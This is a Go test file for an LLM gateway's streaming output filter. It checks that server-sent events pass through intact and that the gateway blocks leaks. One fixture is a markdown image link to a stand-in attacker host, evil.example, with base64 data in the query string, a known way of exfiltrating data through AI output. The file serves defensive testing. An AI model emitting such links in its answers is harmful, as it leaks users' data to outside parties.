package gateway

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/llmaas/llmaas-go/guard/output"
	"github.com/llmaas/llmaas-go/llmaas/gateway/audit"
)

// cut gives one piece a read, and an error at the end.
type cut struct {
	pieces []string
	err    error
}

func (c *cut) Read(p []byte) (int, error) {
	if len(c.pieces) == 0 {
		return 0, c.err
	}
	n := copy(p, c.pieces[0])
	if c.pieces[0] = c.pieces[0][n:]; c.pieces[0] == "" {
		c.pieces = c.pieces[1:]
	}
	return n, nil
}

// passed is what a caller gets of a stream, and what the gateway knows of it.
func passed(t testing.TB, rules *output.Rules, hidden bool, body io.Reader) (string, *exchange, error) {
	t.Helper()
	w := httptest.NewRecorder()
	x := &exchange{
		g: &Gateway{Config: Config{Output: rules, Now: time.Now, Log: slog.New(slog.DiscardHandler)}}, ctx: context.Background(),
		w: w, id: "req-1", steps: make([]audit.Step, 1),
		resp: &http.Response{StatusCode: 200, Body: io.NopCloser(body)},
	}
	x.ask.hidden = hidden
	err := x.stream()
	return w.Body.String(), x, err
}

const canary = "correcthorsebatterystaple"

func newRules(t testing.TB) *output.Rules {
	rules, err := output.New(output.Options{Canaries: []string{canary}})
	require.NoError(t, err)
	return rules
}

// TestStream has a row for each way in which a stream may be odd. What the caller
// gets is what the machine sent, but where the row says otherwise.
func TestStream(t *testing.T) {
	const (
		done   = "data: [DONE]\n\n"
		used   = `{"prompt_tokens":7,"completion_tokens":9,"total_tokens":16}`
		evil   = "![x](https://evil.example/?data=c2VjcmV0IGRhdGEgaGVyZQ)"
		broken = `"code":"upstream_broken_off"`
		unsafe = `"code":"answer_blocked"`
	)
	say := func(delta string) string { return `data: {"choices":[{"index":0,"delta":{` + delta + `}}]}` + "\n\n" }
	other := func(delta string) string { return `data: {"choices":[{"index":1,"delta":{` + delta + `}}]}` + "\n\n" }
	args := func(s string) string { return say(`"tool_calls":[{"index":0,"function":{"arguments":"` + s + `"}}]`) }
	twice := func(s string) string { return say(`"reasoning":"` + s + `","reasoning_content":"` + s + `"`) }
	a, b := say(`"content":"a"`), say(`"content":"b"`)
	usage := `data: {"choices":[],"usage":` + used + "}\n\n"
	rules := newRules(t)
	for _, row := range []struct {
		name     string
		pieces   []string
		cut      bool     // breaks off at the end
		shown    bool     // the caller asked for the usage
		want     []string // of pieces, joined; none means all of them
		fails    string   // what the caller is told at the end
		err      error
		answered string
		usage    string
	}{
		{name: "plain", pieces: []string{a, b, done}, answered: "ab"},
		{name: "nothing comes", fails: broken, err: errBrokenOff},
		{name: "no end", pieces: []string{a, b}, fails: broken, err: errBrokenOff, answered: "ab"},
		{name: "an end without DONE", pieces: []string{a, `data: {"choices":[{"finish_reason":"stop"}]}` + "\n\n"}, answered: "a"},
		{name: "broken off", pieces: []string{a, b}, cut: true, fails: broken, err: errBrokenOff, answered: "ab"},
		{name: "broken off in an event", pieces: []string{a, b[:20]}, cut: true, want: []string{a}, fails: broken, err: errBrokenOff, answered: "a"},
		{name: "the last event has no end", pieces: []string{a, b, "data: [DONE]"}, answered: "ab"},
		{name: "the last event has no end, and is not the last", pieces: []string{a, strings.TrimSpace(b)}, want: []string{a, strings.TrimSpace(b), "\n\n"}, fails: broken, err: errBrokenOff, answered: "ab"},
		{name: "CRLF", pieces: []string{strings.ReplaceAll(a+b+done, "\n", "\r\n")}, answered: "ab"},
		{name: "CR", pieces: []string{strings.ReplaceAll(a+b+done, "\n", "\r")}, answered: "ab"},
		{name: "CR and LF apart", pieces: []string{"data: {\"choices\":[{\"delta\":\r", "\ndata: {\"content\":\"a\"}}]}\r", "\n\r", "\n", done}, answered: "a"},
		{name: "byte order mark", pieces: []string{"\ufeff" + a, done}, answered: "a"},
		{name: "no space behind the colon", pieces: []string{strings.Replace(a, "data: ", "data:", 1), done}, answered: "a"},
		{name: "comments and fields", pieces: []string{": ping\n\n", "id: 7\nevent: x\nretry: 1\n" + a, ":\n\n\n\n", b, done}, answered: "ab"},
		{name: "data in lines", pieces: []string{"data: {\"choices\":[{\"delta\":\ndata: {\"content\":\"a\"}}]}\n\n", done}, answered: "a"},
		{name: "no JSON", pieces: []string{"data: {\n\n", "data\n\n", "data: 7\n\n", "data: [DONE\n\n", a, done}, answered: "a"},
		{name: "escapes", pieces: []string{a, say(`"content":"\u00e9\n\"\\"`), say(`"content":"\ud83d\ude00"`), say(`"content":"\ud83d"`), done}, answered: "aé\n\"\\😀\ufffd"},
		{name: "a long event", pieces: []string{say(`"content":"` + strings.Repeat("a", 1<<20) + `"`), done}, answered: strings.Repeat("a", 1<<20)},
		{name: "an endless event", pieces: []string{a, "data: " + strings.Repeat("a", 33<<20)}, want: []string{a}, fails: broken, err: errBrokenOff, answered: "a"},
		{name: "usage that nobody asked for", pieces: []string{a, usage, done}, want: []string{a, done}, answered: "a", usage: used},
		{name: "usage that was asked for", pieces: []string{a, usage, done}, shown: true, answered: "a", usage: used},
		{name: "usage in every chunk", pieces: []string{strings.Replace(a, "]}\n", `],"usage":null}`+"\n", 1), strings.Replace(b, "]}\n", `],"usage":{"a":1}}`+"\n", 1), done}, answered: "ab", usage: `{"a":1}`},
		{name: "an error of the machine", pieces: []string{a, `data: {"error":{"message":"CUDA"}}` + "\n\n"}, err: &machineError{502}, answered: "a"},
		{name: "an error and an end", pieces: []string{a, `data: {"error":{"message":"CUDA"}}` + "\n\n", done}, err: &machineError{502}, answered: "a"},
		{name: "held back", pieces: []string{say(`"content":"[a"`), say(`"content":"](https://"`), say(`"content":"x.example/) b"`), done}, answered: "[a](https://x.example/) b"},
		{name: "held back to the end", pieces: []string{a, say(`"content":"\n"`), say(`"content":"!["`), done}, answered: "a\n!["},
		{name: "evil", pieces: []string{a, say(`"content":"` + evil + `"`), b, done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "evil in pieces", pieces: []string{a, say(`"content":"` + evil[:6] + `"`), say(`"content":"` + evil[6:30] + `"`), say(`"content":"` + evil[30:] + `"`), b, done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "evil at the end", pieces: []string{a, say(`"content":"` + evil[:len(evil)-1] + `"`), done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "evil in reasoning", pieces: []string{a, say(`"reasoning_content":"` + canary + `"`), done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "evil in a refusal", pieces: []string{a, say(`"refusal":"` + canary + `"`), done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "evil in a member of its own", pieces: []string{a, say(`"new":{"x":["` + canary + `"]}`), done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "evil in arguments", pieces: []string{a, args(`{\"q\":\"` + canary[:3]), args(canary[3:9]), args(canary[9:] + `\"}`), done}, want: []string{a, args(`{\"q\":\"` + canary[:3])}, fails: unsafe, err: errOutput},
		{name: "evil in arguments, in escapes", pieces: []string{args(`{\"q\":\"\\`), args(`u006`), args(`3` + canary[1:]), done}, want: []string{args(`{\"q\":\"\\`), args(`u006`)}, fails: unsafe, err: errOutput},
		{name: "evil in the name of a tool", pieces: []string{say(`"tool_calls":[{"index":0,"id":"1","function":{"name":"` + canary + `"}}]`), done}, want: []string{""}, fails: unsafe, err: errOutput},
		{name: "evil in another choice", pieces: []string{a, other(`"content":"` + canary + `"`), done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "no evil if words of choices are put together", pieces: []string{say(`"content":"` + canary[:9] + `"`), other(`"content":"` + canary[9:] + `"`), done}, answered: canary},
		{name: "no evil if words of calls are put together", pieces: []string{args(canary[:9]), say(`"tool_calls":[{"index":1,"function":{"arguments":"` + canary[9:] + `"}}]`), done}, answered: canary},
		{name: "evil around another text", pieces: []string{say(`"content":"` + canary[:9] + `"`), args("{}"), say(`"content":"` + canary[9:] + `"`), done}, want: []string{say(`"content":"` + canary[:9] + `"`), args("{}")}, fails: unsafe, err: errOutput},
		{name: "a call does not wait for what was said before", pieces: []string{say(`"content":"\n"`), args("{"), a}, cut: true, fails: broken, err: errBrokenOff, answered: "\n{a"},
		{name: "evil before a call", pieces: []string{a, say(`"content":"` + evil[:len(evil)-1] + `"`), args("{}"), done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "evil in two members that say the same", pieces: []string{twice(canary[:9]), twice(canary[9:]), done}, want: []string{""}, fails: unsafe, err: errOutput},
		{name: "evil to look at, in two members that say the same", pieces: []string{a, twice(evil[:6]), twice(evil[6:]), done}, want: []string{a}, fails: unsafe, err: errOutput},
		{name: "a choice waits for another", pieces: []string{say(`"content":"[a]("`), other(`"content":"b"`), say(`"content":"c"`)}, cut: true, want: []string{""}, fails: broken, err: errBrokenOff},
	} {
		t.Run(row.name, func(t *testing.T) {
			body := &cut{pieces: append([]string(nil), row.pieces...), err: io.EOF}
			if row.cut {
				body.err = io.ErrUnexpectedEOF
			}
			got, x, err := passed(t, rules, !row.shown, body)
			if row.want == nil {
				row.want = row.pieces
			}
			want := strings.Join(row.want, "")
			require.True(t, strings.HasPrefix(got, want), "got %.300q\nwant %.300q", got, want)
			if rest := got[len(want):]; row.fails == "" {
				require.Empty(t, rest)
			} else {
				require.Regexp(t, `^data: {"error":{.*`+row.fails+`.*}}\n\n$`, rest)
			}
			require.Equal(t, row.err, err)
			if row.answered != "" {
				require.Equal(t, row.answered, x.answered.String())
			}
			require.Equal(t, row.usage, string(x.usage))
		})
	}
}

// FuzzStream cuts streams anywhere: what the caller gets is the same, and it is
// what came, to the end or up to where the gateway says why it goes no further.
func FuzzStream(f *testing.F) {
	for _, seed := range []string{
		"data: {\"choices\":[{\"delta\":{\"content\":\"a [b](\"}}]}\n\ndata: {\"choices\":[{\"delta\":{\"content\":\"c\\n\"}}]}\n\n: x\r\n\r\ndata: [DONE]\n\n",
		"data: {\"choices\":[{\"delta\":{\"tool_calls\":[{\"function\":{\"arguments\":\"{\\\"a\\\":\\\"\\\\u00e9\\\\\"}}]}}]}\n\ndata: {\"choices\":[{\"index\":1,\"text\":\"" + canary + "\"}]}\r\rdata: [DONE]",
		"\ufeffdata:{\"choices\":[\ndata: {\"finish_reason\":\"stop\"}]}\n\ndata: {\"error\":\"x\"}\n\n",
	} {
		f.Add([]byte(seed), uint64(1))
	}
	rules := newRules(f)
	f.Fuzz(func(t *testing.T, raw []byte, seed uint64) {
		whole, x, err := passed(t, rules, false, bytes.NewReader(raw))
		rng := rand.New(rand.NewPCG(seed, 0))
		var pieces []string
		for rest := raw; len(rest) > 0; {
			n := 1 + rng.IntN(len(rest))
			pieces, rest = append(pieces, string(rest[:n])), rest[n:]
		}
		for _, body := range []io.Reader{&cut{pieces: pieces, err: io.EOF}, iotest.OneByteReader(bytes.NewReader(raw))} {
			got, y, again := passed(t, rules, false, body)
			require.Equal(t, whole, got)
			require.Equal(t, err, again)
			require.Equal(t, x.answered.String(), y.answered.String())
		}
		if err == nil {
			require.Equal(t, string(raw), whole)
			require.Equal(t, plainly(raw), x.answered.String())
			return
		}
		if err.Error() != (&machineError{502}).Error() {
			var told bool
			whole, told = strings.CutSuffix(whole, "data: "+string(failureOf(err).body("req-1"))+"\n\n")
			require.True(t, told)
		}
		require.True(t, strings.HasPrefix(string(raw)+"\n\n", whole))
	})
}

// plainly is what a stream says, read without haste.
func plainly(raw []byte) string {
	var all strings.Builder
	r := replyReader{say: func(_ source, words []byte) { all.Write(words) }}
	text := strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(strings.TrimPrefix(string(raw), "\ufeff"))
	for event := range strings.SplitSeq(text, "\n\n") {
		var data []string
		for line := range strings.SplitSeq(event, "\n") {
			if value, ok := strings.CutPrefix(line, "data:"); ok {
				data = append(data, strings.TrimPrefix(value, " "))
			}
		}
		r.read([]byte(strings.Join(data, "\n")))
	}
	return all.String()
}
